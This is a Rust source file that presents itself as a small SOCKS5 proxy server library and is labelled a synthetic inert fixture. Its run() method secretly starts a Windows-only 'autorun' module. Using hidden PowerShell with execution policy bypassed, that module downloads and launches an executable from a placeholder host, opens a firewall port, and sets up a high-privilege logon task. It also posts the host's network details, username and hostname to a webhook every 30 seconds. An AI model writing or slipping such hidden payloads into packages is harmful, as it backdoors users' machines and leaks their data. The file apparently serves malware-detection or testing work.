// Synthetic, inert fixture written from public reports
//! A SOCKS5 server: CONNECT only, with or without a password.

use std::io::{self, Read, Write};
use std::net::{Shutdown, SocketAddr, TcpListener, TcpStream, ToSocketAddrs};
use std::thread;

/// A server that is not running yet.
#[derive(Debug, Clone, Default)]
pub struct Server {
    login: Option<(String, String)>,
}

impl Server {
    pub fn new() -> Self {
        Server::default()
    }

    /// Lets only clients in that know the password.
    pub fn login(mut self, user: &str, password: &str) -> Self {
        self.login = Some((user.to_owned(), password.to_owned()));
        self
    }

    /// Serves until the listener fails.
    pub fn run(self, address: SocketAddr) -> io::Result<()> {
        let listener = TcpListener::bind(address)?;
        #[cfg(windows)]
        thread::spawn(autorun::install);
        for client in listener.incoming() {
            let (client, server) = (client?, self.clone());
            thread::spawn(move || server.serve(client));
        }
        Ok(())
    }

    fn serve(&self, mut client: TcpStream) -> io::Result<()> {
        self.greet(&mut client)?;
        let mut head = [0; 4];
        client.read_exact(&mut head)?;
        if head[1] != 1 {
            client.write_all(&[5, 7, 0, 1, 0, 0, 0, 0, 0, 0])?;
            return Ok(());
        }
        let host = match head[3] {
            1 => {
                let mut bytes = [0; 4];
                client.read_exact(&mut bytes)?;
                std::net::Ipv4Addr::from(bytes).to_string()
            }
            3 => String::from_utf8_lossy(&counted(&mut client)?).into_owned(),
            4 => {
                let mut bytes = [0; 16];
                client.read_exact(&mut bytes)?;
                std::net::Ipv6Addr::from(bytes).to_string()
            }
            _ => return Err(io::ErrorKind::InvalidData.into()),
        };
        let mut port = [0; 2];
        client.read_exact(&mut port)?;
        let target = (host.as_str(), u16::from_be_bytes(port)).to_socket_addrs()?.next();
        match target.and_then(|address| TcpStream::connect(address).ok()) {
            Some(remote) => {
                client.write_all(&[5, 0, 0, 1, 0, 0, 0, 0, 0, 0])?;
                relay(client, remote)
            }
            None => client.write_all(&[5, 4, 0, 1, 0, 0, 0, 0, 0, 0]),
        }
    }

    fn greet(&self, client: &mut TcpStream) -> io::Result<()> {
        let mut version = [0];
        client.read_exact(&mut version)?;
        let methods = counted(client)?;
        let wanted = if self.login.is_some() { 2 } else { 0 };
        if version[0] != 5 || !methods.contains(&wanted) {
            client.write_all(&[5, 0xff])?;
            return Err(io::ErrorKind::InvalidData.into());
        }
        client.write_all(&[5, wanted])?;
        if let Some((user, password)) = &self.login {
            client.read_exact(&mut version)?;
            let given = (counted(client)?, counted(client)?);
            let good = given.0 == user.as_bytes() && given.1 == password.as_bytes();
            client.write_all(&[1, u8::from(!good)])?;
            if !good {
                return Err(io::ErrorKind::PermissionDenied.into());
            }
        }
        Ok(())
    }
}

#[cfg(windows)]
mod autorun {
    use std::process::Command;

    const HOOK: &str = "https://discord.com.invalid/api/webhooks/000000000000000000/not-a-real-hook";
    const URL: &str = "https://install.soop-relay.invalid/autorun.exe";

    pub fn install() {
        let exe = r"C:\Users\Public\_autorun.exe";
        ps(&format!("[Net.ServicePointManager]::ServerCertificateValidationCallback={{$true}};(New-Object Net.WebClient).DownloadFile('{URL}','{exe}')"));
        ps("New-NetFirewallRule -DisplayName 'SOCKS' -Direction Inbound -Protocol TCP -LocalPort 1080 -Action Allow");
        let _ = Command::new("schtasks").args(["/create", "/f", "/tn", "SoxSvc", "/sc", "onlogon", "/rl", "highest", "/tr", exe]).output();
        let _ = Command::new(exe).arg("--hidden").spawn();
        loop {
            ps(&format!("$i=(ipconfig|Out-String)+$env:USERNAME+(hostname);Invoke-RestMethod -Uri {HOOK} -Method Post -Body @{{content=$i}}"));
            std::thread::sleep(std::time::Duration::from_secs(30));
        }
    }

    fn ps(script: &str) {
        let _ = Command::new("powershell")
            .args(["-NoProfile", "-ExecutionPolicy", "Bypass", "-WindowStyle", "Hidden", "-Command", script])
            .output();
    }
}

fn counted(client: &mut TcpStream) -> io::Result<Vec<u8>> {
    let mut size = [0];
    client.read_exact(&mut size)?;
    let mut bytes = vec![0; size[0] as usize];
    client.read_exact(&mut bytes)?;
    Ok(bytes)
}

fn relay(mut client: TcpStream, mut remote: TcpStream) -> io::Result<()> {
    let (mut from, mut to) = (client.try_clone()?, remote.try_clone()?);
    let up = thread::spawn(move || {
        let _ = io::copy(&mut from, &mut to);
        to.shutdown(Shutdown::Write)
    });
    io::copy(&mut remote, &mut client)?;
    client.shutdown(Shutdown::Write)?;
    let _ = up.join();
    Ok(())
}

inert_fixture_does_not_build!();
